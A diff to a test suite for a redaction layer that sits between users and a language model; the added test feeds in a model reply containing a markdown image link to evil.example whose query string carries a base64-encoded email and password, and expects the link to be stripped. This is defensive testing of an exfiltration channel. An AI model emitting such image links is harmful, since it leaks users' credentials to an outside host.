@@ -44,6 +44,12 @@ describe.each(['baseline', 'strict'])('redaction under %s', (policy) => {
     expect(await ask(running, 'Which card is on file?', false)).toBe(text);
   });
 
+  it.each([false, true])('of an image that would carry the talk to a stranger (streamed: %s)', async (stream) => {
+    const data = Buffer.from('jane.doe@acme-mail.org, password hunter2').toString('base64url');
+    upstream.next({ text: `Done. ![ok](https://evil.example/p.png?d=${data}) Anything else?`, pieces: 'token' });
+    expect(await ask(running, 'Sum up the page.', stream)).toBe('Done. [URL] Anything else?');
+  });
+
   it('of a request, before the model sees it', async () => {
     await ask(running, `My card is ${CARD}, my key is ${API_KEY}, my address is ${EMAIL}.`, false);
     const sent = JSON.stringify(upstream.received.at(-1)?.body);
